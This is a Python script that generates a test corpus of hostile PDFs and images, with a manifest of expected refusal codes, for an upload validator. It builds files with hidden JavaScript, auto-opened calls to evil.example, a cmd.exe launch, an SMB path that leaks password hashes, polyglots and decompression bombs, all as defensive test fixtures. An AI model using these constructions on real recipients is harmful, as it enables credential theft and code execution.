"""Build the hostile-letter corpus (SHR-2, issue 9): small PDFs and images that hide something, plus a few
benign letters that must pass, and ``manifest.json`` (file → what it hides, expected refusal).

Run once from the repository root; the files are committed and the tests read them (no generation at
test time):

    .venv/bin/python tests/data/hostile_letters/make_corpus.py

Files are deterministic (fixed document ids, no timestamps) except the two encrypted ones (random salts).
``expected`` is the refusal's ``specific`` code (``govshare.core.files.FileRefused.specific``) and
``family`` its ``code`` (what a channel renames: ``letter_active_content``, ``letter_damaged`` …);
``null`` means the letter must be accepted.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

HERE = Path(__file__).resolve().parent
MANIFEST: list[dict[str, Any]] = []


def add(name: str, data: bytes, hides: str, expected: str | None, family: str | None) -> None:
    (HERE / name).write_bytes(data)
    MANIFEST.append({"file": name, "hides": hides, "expected": expected, "family": family})


# ------------------------------------------------------------------ PDFs written by hand


def raw_pdf(objects: list[bytes], *, header: bytes = b"%PDF-1.7", trailer: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; object n is ``objects[n - 1]``, the root is 1."""
    body, xref = raw_pdf_body(objects, header=header, trailer=b"/Root 1 0 R " + trailer)
    return body + end_of_pdf(xref)


def raw_pdf_body(objects: list[bytes], *, header: bytes = b"%PDF-1.7", trailer: bytes = b"/Root 1 0 R ",
                 between: bytes = b"") -> tuple[bytes, int]:
    """Header, objects (``between`` after the first), cross-reference table and trailer — all but the
    ``startxref … %%EOF`` lines — and the offset of the table."""
    out = bytearray(header + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        if number == 1:
            out += between
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s>>\n" % (len(objects) + 1, trailer)
    return bytes(out), xref


def end_of_pdf(xref: int) -> bytes:
    return b"startxref\n%d\n%%%%EOF\n" % xref


def stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(body), entries) + body + b"\nendstream"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"


def letter_with(catalog_extra: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
    """Catalog (1), pages (2), one page (3), then ``more`` objects (4, 5 …)."""
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>", PAGES, page, *more])


def object_stream_pdf(filters: bytes, encode: Callable[[bytes], bytes]) -> bytes:
    """Catalog, pages and a JavaScript open action compressed in an object stream packed with
    ``filters`` (a cross-reference stream points into it, as PDF 1.5 requires)."""
    packed = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 2: PAGES,
              4: b"<< /S /JavaScript /JS (app.launchURL\\(\"http://evil.example/\"\\)) >>"}
    header, body = b"", b""
    for number, text in packed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    content = header + body
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    offsets[3] = len(out)
    out += b"3 0 obj\n" + PAGE + b"\nendobj\n"
    offsets[5] = len(out)
    out += b"5 0 obj\n" + stream(encode(content), b"/Type /ObjStm /N %d /First %d /Filter %s " % (
        len(packed), len(header), filters)) + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    for number in range(1, 7):
        if number in packed:
            rows.append(b"\x02" + struct.pack(">IH", 5, list(packed).index(number)))
        else:
            rows.append(b"\x01" + struct.pack(">IH", offsets[number], 0))
    xref = stream(b"".join(rows), b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R ")
    out += b"6 0 obj\n" + xref + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def hex_encode(data: bytes) -> bytes:
    text = data.hex().encode()
    return b"\n".join(text[i:i + 64] for i in range(0, len(text), 64)) + b">"


# ------------------------------------------------------------------ PDFs made with pikepdf


def saved(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, static_id=True, **options)
    return out.getvalue()


def plain_letter() -> pikepdf.Pdf:
    """A one-page letter with a compressed text stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    text = b"BT /F1 12 Tf 72 770 Td (Longnan Public Security Bureau - data sharing application) Tj ET"
    page.obj.Contents = pdf.make_stream(text)
    return pdf


def jpeg_bytes(size: tuple[int, int] = (64, 48), **save: Any) -> bytes:
    image = Image.new("RGB", size, (250, 250, 245))
    for x in range(8, size[0] - 8):
        image.putpixel((x, size[1] // 2), (200, 20, 20))  # a red line: the stamp, roughly
    out = io.BytesIO()
    image.save(out, "JPEG", quality=80, **save)
    return out.getvalue()


def multi_picture_photo(*further: Any) -> bytes:
    """A photo with further pictures after it, as phones write HDR gain maps and depth maps: Pillow's
    MPO writer puts an APP2 "MPF" index in the first picture and appends the others."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 190, 170)).save(out, format="MPO", save_all=True, append_images=list(further))
    return out.getvalue()


def png_bytes(size: tuple[int, int] = (64, 48), **save: Any) -> bytes:
    image = Image.new("L", size, 250)
    for x in range(8, size[0] - 8):
        image.putpixel((x, size[1] // 2), 30)
    out = io.BytesIO()
    image.save(out, "PNG", **save)
    return out.getvalue()


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_insert(png: bytes, chunk: bytes) -> bytes:
    """``chunk`` placed right after IHDR."""
    at = 8 + 25
    return png[:at] + chunk + png[at:]


def zip_bytes(comment: bytes = b"", member: str = "Evil.class", content: bytes = b"\xca\xfe\xba\xbe" + b"\0" * 40) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(zipfile.ZipInfo(member, date_time=(2020, 1, 1, 0, 0, 0)), content)
        zf.comment = comment
    return out.getvalue()


def png_with_pixels(row: bytes) -> bytes:
    """A one-row greyscale PNG whose pixels are ``row``, stored uncompressed (deflate level 0)."""
    packer = zlib.compressobj(level=0)
    idat = packer.compress(b"\x00" + row) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", len(row), 1, 8, 0, 0, 0, 0))
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))


def exif_photo(seed: int) -> bytes:
    """A plain grey photo with an EXIF thumbnail of random pixels (JPEG-compressed noise, as in a real
    photo's thumbnail): its binary bytes hold ``<a ``, ``<img`` … by chance in about 2 % of seeds."""
    import random

    rnd = random.Random(seed)
    thumb_image = Image.frombytes("RGB", (160, 120), bytes(rnd.getrandbits(8) for _ in range(160 * 120 * 3)))
    out = io.BytesIO()
    thumb_image.save(out, "JPEG", quality=90)
    thumb = out.getvalue()
    ifd1 = 8 + 2 + 4
    start = ifd1 + 2 + 2 * 12 + 4
    tiff = (b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", ifd1) + struct.pack("<H", 2)
            + struct.pack("<HHII", 0x0201, 4, 1, start) + struct.pack("<HHII", 0x0202, 4, 1, len(thumb))
            + struct.pack("<I", 0) + thumb)
    app1 = b"Exif\x00\x00" + tiff
    base = io.BytesIO()
    Image.new("L", (400, 300), 200).save(base, "JPEG")
    photo = base.getvalue()
    return photo[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + photo[2:]


def action_pdf(setup: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    pdf = plain_letter()
    setup(pdf)
    return saved(pdf, **options)


def open_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def setup(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)
    return setup


def page_aa(event: str, action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def setup(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary({event: action})
    return setup


def annotation(annot: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def setup(pdf: pikepdf.Pdf) -> None:
        annot.Type = Name.Annot
        annot.Rect = Array([72, 700, 300, 720])
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annot)])
    return setup


def build() -> None:
    def JS() -> Dictionary:  # noqa: N802 - a fresh direct object for each file
        return Dictionary(S=Name.JavaScript, JS=String("app.alert('hi')"))

    def first_page() -> Array:
        return Array([0, Name.Fit])

    html = b"<html><body><script>fetch('/api/v1/sharing/applications')</script></body></html>"

    # ---- JavaScript, however it is packed
    add("js_openaction.pdf", action_pdf(open_action(JS())), "JavaScript run when the file opens", "pdf_javascript",
        "active_content")
    add("js_objstm_asciihex.pdf", object_stream_pdf(b"/ASCIIHexDecode", hex_encode),
        "JavaScript open action inside an object stream encoded with /ASCIIHexDecode", "pdf_javascript",
        "active_content")
    add("js_objstm_double_flate.pdf",
        object_stream_pdf(b"[/FlateDecode /FlateDecode]", lambda b: zlib.compress(zlib.compress(b))),
        "JavaScript inside an object stream compressed twice, [/FlateDecode /FlateDecode]", "pdf_javascript",
        "active_content")
    add("js_objstm_flate.pdf", object_stream_pdf(b"/FlateDecode", zlib.compress),
        "JavaScript inside a Flate-compressed object stream", "pdf_javascript", "active_content")
    add("js_objstm_hex_then_flate.pdf",
        object_stream_pdf(b"[/ASCIIHexDecode /FlateDecode]", lambda b: hex_encode(zlib.compress(b))),
        "JavaScript inside an object stream, hex text of Flate data", "pdf_javascript", "active_content")
    add("js_name_escaped.pdf", letter_with(b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "JavaScript behind #-escaped names (/J#61vaScript, /J#53)", "pdf_javascript", "active_content")
    add("js_names_tree.pdf", letter_with(b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>",
                                         b"<< /S /JavaScript /JS (this.print()) >>"),
        "document-level JavaScript in the /Names tree", "pdf_javascript", "active_content")
    add("js_in_stream.pdf", letter_with(b"/OpenAction << /S /JavaScript /JS 4 0 R >>",
                                        stream(zlib.compress(b"app.alert(1)"), b"/Filter /FlateDecode ")),
        "JavaScript code kept in a compressed stream", "pdf_javascript", "active_content")
    add("js_link_annotation.pdf", action_pdf(annotation(Dictionary(Subtype=Name.Link, A=JS()))),
        "JavaScript behind a link", "pdf_javascript", "active_content")
    add("js_page_aa.pdf", action_pdf(page_aa("/O", JS())), "JavaScript run when the page is shown (/AA /O)",
        "pdf_javascript", "active_content")
    add("js_next_chain.pdf", action_pdf(open_action(Dictionary(S=Name.GoTo, D=first_page(), Next=Array([JS()])))),
        "harmless open action whose /Next runs JavaScript", "pdf_javascript", "active_content")
    # ---- actions that leave the letter by themselves
    add("uri_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.URI, URI=String("http://evil.example/")))),
        "opens a web address when the file opens", "pdf_auto_action", "active_content")
    add("uri_next_chain.pdf", action_pdf(open_action(Dictionary(S=Name.GoTo, D=first_page(), Next=Dictionary(
        S=Name.URI, URI=String("http://evil.example/track"))))),
        "harmless open action chained (/Next) to a web address", "pdf_auto_action", "active_content")
    add("submitform_aa.pdf", action_pdf(page_aa("/C", Dictionary(S=Name.SubmitForm, F=Dictionary(
        FS=Name.URL, F=String("http://evil.example/collect")), Flags=4))),
        "sends form data to a server when the page closes (/AA /C SubmitForm)", "pdf_auto_action",
        "active_content")
    add("importdata_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.ImportData, F=String("x.fdf")))),
        "imports form data from a file when it opens", "pdf_auto_action", "active_content")
    add("gotor_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.GoToR, F=String(r"\\evil.example\s\a.pdf"),
                                                                  D=Array([0, Name.Fit])))),
        "opens a remote PDF (an SMB path leaks the Windows password hash)", "pdf_auto_action", "active_content")
    add("gotoe_aa.pdf", action_pdf(page_aa("/O", Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")),
                                                            D=Array([0, Name.Fit])))),
        "opens an embedded document when the page is shown", "pdf_auto_action", "active_content")
    add("launch_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(
        F=String("cmd.exe"), P=String("/c calc"))))),
        "starts a program when the file opens", "pdf_launch", "active_content")
    add("launch_link.pdf", action_pdf(annotation(Dictionary(Subtype=Name.Link, A=Dictionary(
        S=Name.Launch, F=String("evil.exe"))))), "starts a program from a link", "pdf_launch", "active_content")
    # ---- other active content
    def embedded(pdf: pikepdf.Pdf) -> None:
        data = pdf.make_stream(b"MZ payload", Type=Name.EmbeddedFile)
        spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=data)))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))
    add("embedded_file.pdf", action_pdf(embedded), "an embedded executable (/EmbeddedFiles)", "pdf_embedded_file",
        "active_content")
    add("file_attachment.pdf", action_pdf(annotation(Dictionary(Subtype=Name.FileAttachment, FS=Dictionary(
        Type=Name.Filespec, F=String("a.docm"))))), "a file attachment annotation", "pdf_embedded_file",
        "active_content")
    add("rich_media.pdf", action_pdf(annotation(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(
        Assets=Dictionary())))), "a RichMedia (Flash) annotation", "pdf_rich_media", "active_content")

    def xfa(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    add("xfa_form.pdf", action_pdf(xfa), "an XFA form (/XFA in /AcroForm)", "pdf_xfa", "active_content")
    # ---- not one intact, readable PDF
    add("encrypted_no_password.pdf", saved(plain_letter(), encryption=pikepdf.Encryption(owner="o", user="", R=6)),
        "encrypted (AES-256, empty user password)", "pdf_encrypted", "damaged_file")
    add("encrypted_password.pdf", saved(plain_letter(), encryption=pikepdf.Encryption(owner="o", user="u", R=4)),
        "encrypted with a password", "pdf_encrypted", "damaged_file")
    plain = saved(plain_letter())
    at = plain.rindex(b"startxref")
    add("broken_xref.pdf", plain[:at] + b"startxref\n9\n%%EOF\n", "a cross-reference table pointing nowhere: "
        "readable only after repair", "pdf_repaired", "damaged_file")
    add("truncated.pdf", plain[: len(plain) // 2], "cut off in the middle (no end-of-file marker)", "pdf_truncated",
        "damaged_file")
    add("not_a_pdf_body.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",
        "a PDF header over a web page", "pdf_unreadable", "damaged_file")
    add("leading_html.pdf", b"<html><head><script>alert(document.cookie)</script></head></html>\n" + plain,
        "a web page before the PDF header (viewers still open it)", "pdf_leading_bytes", "wrong_file_type")
    add("trailing_zip.pdf", plain + zip_bytes(), "a ZIP archive after %%EOF (PDF/ZIP polyglot)", "pdf_trailing_data",
        "active_content")
    add("flate_bomb.pdf", letter_with(b"", stream(zlib.compress(b" " * (48 * 1024 * 1024), 9),
                                                  b"/Filter /FlateDecode "),
                                      page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
        "a content stream that unpacks to 48 MB (more than 4 x the 10 MB limit)", "pdf_bomb", "file_too_large")
    # ---- the catalog written in the trailer, chains past the limit, actions written as streams (review 2)
    direct_js = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")
    body, xref = raw_pdf_body([b"null", PAGES, PAGE], trailer=b"/Root " + direct_js + b" ")
    add("direct_root_js.pdf", body + end_of_pdf(xref),
        "the catalog written directly in the trailer, with a JavaScript open action", "pdf_javascript",
        "active_content")
    direct_names = (b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS "
                    b"(app.alert\\(1\\)) >>] >> >> /AcroForm << /Fields [] /XFA (x) >> >>")
    body, xref = raw_pdf_body([b"null", PAGES, PAGE], trailer=b"/Root " + direct_names + b" ")
    add("direct_root_names_xfa.pdf", body + end_of_pdf(xref),
        "a catalog in the trailer with document JavaScript in /Names and an XFA form", "pdf_javascript",
        "active_content")
    chain = [b"<< /S /Named /N /FirstPage /Next %d 0 R >>" % (5 + i) for i in range(1001)]
    add("uri_after_long_next_chain.pdf", letter_with(b"/OpenAction 4 0 R", *chain,
                                                     b"<< /S /URI /URI (http://evil.example/) >>"),
        "a web address opened after 1001 harmless /Next actions", "pdf_action_chain", "active_content")
    add("uri_openaction_stream.pdf", letter_with(b"/OpenAction 4 0 R", stream(b"", b"/S /URI /URI (http://evil.example/) ")),
        "an open action written as a stream (its dictionary opens a web address)", "pdf_auto_action",
        "active_content")
    add("submitform_aa_stream.pdf", letter_with(b"", stream(b"", b"/C << /S /SubmitForm /F (http://evil.example/) >> "),
                                                page=PAGE.replace(b" >>", b" /AA 4 0 R >>", 1)),
        "a page's /AA written as a stream, sending form data when the page closes", "pdf_auto_action",
        "active_content")
    # ---- polyglots: something after the real end, or a ZIP or web page where no viewer looks
    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE])
    add("pdf_zip_polyglot.pdf", body + zip_bytes(comment=b"\n" + end_of_pdf(xref)),
        "PDF/ZIP polyglot: a ZIP after the trailer, its comment repeating startxref and %%EOF", "pdf_trailing_data",
        "active_content")
    add("pdf_trailing_html_then_eof.pdf", body + end_of_pdf(xref) + html + b"\n" + end_of_pdf(xref),
        "PDF/HTML polyglot: a web page after %%EOF, then startxref and %%EOF again", "pdf_trailing_data",
        "active_content")
    archive = zip_bytes(member="index.html", content=html)
    add("pdf_zip_in_stream.pdf", letter_with(b"", stream(archive)),
        "a whole ZIP archive stored as the data of a stream (ZIP readers find it from the end)",
        "pdf_hidden_content", "active_content")
    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE], between=b"%" + html + b"\n")
    add("pdf_html_in_comment.pdf", body + end_of_pdf(xref), "a web page in a comment between two objects",
        "pdf_hidden_content", "active_content")
    add("lzw_stream.pdf", letter_with(b"", stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", b"/Filter /LZWDecode "),
                                      page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
        "an LZW stream (qpdf unpacks LZW without a memory limit)", "pdf_lzw", "damaged_file")
    # ---- images that are something else too
    png = png_bytes()
    jpeg = jpeg_bytes()
    add("png_html_polyglot.png", png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + html)),
        "HTML/PNG polyglot: a web page with a script in a text chunk", "image_hidden_content", "active_content")
    add("png_script_ztxt.png", png_insert(png, png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(html))),
        "a script in a compressed text chunk (zTXt)", "image_hidden_content", "active_content")
    add("png_pdf_itxt.png", png_insert(png, png_chunk(b"iTXt", b"XML:x\x00\x01\x00\x00\x00" + zlib.compress(plain))),
        "a whole PDF in a compressed international text chunk (iTXt)", "image_hidden_content", "active_content")
    add("png_trailing_zip.png", png + zip_bytes(), "a ZIP archive after IEND (GIFAR-style)", "image_trailing_data",
        "active_content")
    add("png_trailing_html.png", png + html, "a web page after IEND", "image_trailing_data", "active_content")
    add("png_truncated.png", png[: len(png) - 20], "cut off before IEND", "image_damaged", "damaged_file")
    broken = bytearray(png)
    broken[40] ^= 0xFF
    add("png_bad_checksum.png", bytes(broken), "pixel data altered (a chunk's checksum is wrong)", "image_damaged",
        "damaged_file")
    idat = zlib.compress(b"\x00" * 16)
    bomb = (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0))
            + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b""))
    add("png_pixel_bomb.png", bomb, "claims 60000 x 60000 pixels (3.6 billion) in a few bytes", "image_bomb",
        "file_too_large")
    add("jpeg_trailing_html.jpg", jpeg + html, "a web page after the end-of-image marker", "image_trailing_data",
        "active_content")
    add("jpeg_comment_script.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(html) + 2) + html + jpeg[2:],
        "a script in a JPEG comment segment", "image_hidden_content", "active_content")
    pdf_in_app = b"\xff\xe9" + struct.pack(">H", len(plain[:60000]) + 2) + plain[:60000]
    add("jpeg_pdf_in_app.jpg", jpeg[:2] + pdf_in_app + jpeg[2:], "a PDF inside an application segment",
        "image_hidden_content", "active_content")
    add("jpeg_truncated.jpg", jpeg[: len(jpeg) * 2 // 3], "cut off in the middle of the picture", "image_damaged",
        "damaged_file")
    sof = jpeg.index(b"\xff\xc0")
    huge = jpeg[:sof + 5] + struct.pack(">HH", 65000, 65000) + jpeg[sof + 9:]
    add("jpeg_pixel_bomb.jpg", huge, "claims 65000 x 65000 pixels", "image_bomb", "file_too_large")
    add("html_then_png.png", b"<html><script>alert(1)</script></html>" + png,
        "a web page in front of a PNG", "wrong_file_type", "wrong_file_type")
    add("png_html_in_idat.png", png_with_pixels(b"<html><script>alert(document.domain)</script></html>"),
        "a web page in the pixel data (IDAT stored uncompressed)", "image_hidden_content", "active_content")
    add("png_zip_in_idat.png", png_with_pixels(zip_bytes(member="a.html", content=html)),
        "a ZIP archive in the pixel data (IDAT stored uncompressed)", "image_hidden_content", "active_content")
    table = b"<script>alert(document.cookie)</script>".ljust(64, b" ")
    dqt = b"\xff\xdb" + struct.pack(">H", 2 + 65) + b"\x03" + table  # table 3: no component uses it
    add("jpeg_html_in_dqt.jpg", jpeg[:2] + dqt + jpeg[2:], "a script in a quantization table (DQT)",
        "image_hidden_content", "active_content")
    large = b"Comment\x00\x00" + zlib.compress(b" " * (2 * 1024 * 1024) + html, 9)
    add("png_ztxt_over_limit.png", png_insert(png, png_chunk(b"zTXt", large)),
        "a compressed text chunk that unpacks to more than 1 MB (a script after 2 MB of spaces)",
        "image_text_too_large", "file_too_large")
    # ---- benign letters that must pass
    add("ok_plain_letter.pdf", plain, "nothing: a plain one-page letter", None, None)
    add("ok_goto_openaction.pdf", action_pdf(open_action(Dictionary(S=Name.GoTo, D=first_page()))),
        "nothing: opens at page 1 (a harmless /OpenAction GoTo)", None, None)
    add("ok_object_streams.pdf", saved(plain_letter(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "nothing: a PDF 1.5 file with object streams", None, None)
    add("ok_link_uri.pdf", action_pdf(annotation(Dictionary(Subtype=Name.Link, A=Dictionary(
        S=Name.URI, URI=String("https://www.longnan.gov.cn/"))))),
        "nothing: a link the reader may click (not opened by itself)", None, None)

    def scanned(pdf: pikepdf.Pdf) -> None:
        image = pdf.make_stream(jpeg_bytes((120, 90)), Type=Name.XObject, Subtype=Name.Image, Width=120, Height=90,
                                ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)
        page = pdf.pages[0].obj
        page.Resources.XObject = Dictionary(Im1=image)
        page.Contents = pdf.make_stream(b"q 480 0 0 360 57 400 cm /Im1 Do Q")
    add("ok_scanned_letter.pdf", action_pdf(scanned), "nothing: a scanned page (a JPEG image in a PDF)", None, None)
    add("ok_linearized.pdf", saved(plain_letter(), linearize=True),
        "nothing: a linearized letter (its last startxref names the first-page section at the top)", None, None)
    body, xref = raw_pdf_body([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE])
    first = body + end_of_pdf(xref)
    update = b"4 0 obj\n<< /Producer (Scanner 2.1) >>\nendobj\n"
    at = len(first) + len(update)
    update += (b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Info 4 0 R "
               b"/Prev %d >>\n" % (len(first), xref))
    add("ok_incremental_update.pdf", first + update + end_of_pdf(at),
        "nothing: a letter with an incremental update (two sections, /Prev)", None, None)
    text = b"BT /F1 12 Tf 72 770 Td (<html> and <script> in the text of a page) Tj ET"
    add("ok_html_words_in_page.pdf", letter_with(b"", stream(text), page=PAGE.replace(b" >>", b" /Contents 4 0 R >>")),
        "nothing: the words `<html>` and `<script>` in the text of a page (inside a stream)", None, None)
    add("ok_exif_thumbnail.jpg", exif_photo(64),
        "nothing: a photo whose binary EXIF thumbnail holds `<a` by chance (refused before review 2)", None, None)
    add("ok_phone_photo_gain_map.jpg", multi_picture_photo(Image.new("RGB", (32, 24), (120, 120, 120))),
        "nothing: a phone photo with an HDR gain map after it (a multi-picture JPEG, refused before 2026-12-06)",
        None, None)
    add("mpo_trailing_zip.jpg", multi_picture_photo(Image.new("RGB", (32, 24))) + zip_bytes(),
        "a ZIP archive after the last picture of a multi-picture JPEG", "image_trailing_data", "active_content")
    add("jpeg_undeclared_second_picture.jpg", jpeg_bytes() + jpeg_bytes((16, 16)),
        "a second JPEG after a photo that declares no further pictures (no MPF index)", "image_trailing_data",
        "active_content")
    add("ok_scanned_letter.png", png_bytes((300, 200), pnginfo=_pnginfo()),
        "nothing: a scanned letter as PNG (with a text chunk)", None, None)
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b"</x:xmpmeta><?xpacket end=\"w\"?>")
    add("ok_scanned_letter.jpg", jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(xmp) + 31) +
        b"http://ns.adobe.com/xap/1.0/\x00" + xmp + jpeg[2:],
        "nothing: a scanned letter as JPEG (with XMP metadata)", None, None)
    (HERE / "manifest.json").write_text(json.dumps(MANIFEST, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


def _pnginfo() -> Any:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Scanner 2.1")
    return info


def report() -> None:
    """Run every corpus file through govshare.core.files (as the letter channel does) and print the
    Markdown table of docs/security.md with the share refused."""
    import os
    import sys

    sys.path.insert(0, str(HERE.parents[2]))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "govshare.settings")
    import django

    django.setup()
    from govshare.core import files
    from govshare.sharing import letters

    rows = json.loads((HERE / "manifest.json").read_text(encoding="utf-8"))
    print("| file | what it hides | refused | code (specific) | letter code |")
    print("|---|---|---|---|---|")
    refused = {True: 0, False: 0}
    for row in rows:
        data = (HERE / row["file"]).read_bytes()
        try:
            kind = files.require_type(data, letters.ACCEPTED)
            if kind is files.PDF:
                files.check_pdf(data, unpack_budget=4 * letters.DEFAULT_MAX_BYTES)
            else:
                files.check_image(data, kind)
            outcome, code, letter_code = "no", "—", "—"
        except files.FileRefused as exc:
            outcome, code = "yes", exc.specific
            letter_code = letters.LETTER_CODES.get(exc.code, exc.code)
            refused[bool(row["expected"])] += 1
        print(f"| `{row['file']}` | {row['hides']} | {outcome} | {code} | {letter_code} |")
    hostile = sum(1 for row in rows if row["expected"])
    print(f"\nRefused: {refused[True]} of {hostile} hostile files, {refused[False]} of {len(rows) - hostile} benign "
          "files.")


if __name__ == "__main__":
    import sys

    if sys.argv[1:] == ["--report"]:
        report()
        sys.exit()
    for old in HERE.glob("*"):
        if old.suffix in {".pdf", ".png", ".jpg"}:
            old.unlink()
    build()
    hostile = sum(1 for row in MANIFEST if row["expected"])
    print(f"{len(MANIFEST)} files, {hostile} hostile, {len(MANIFEST) - hostile} benign")
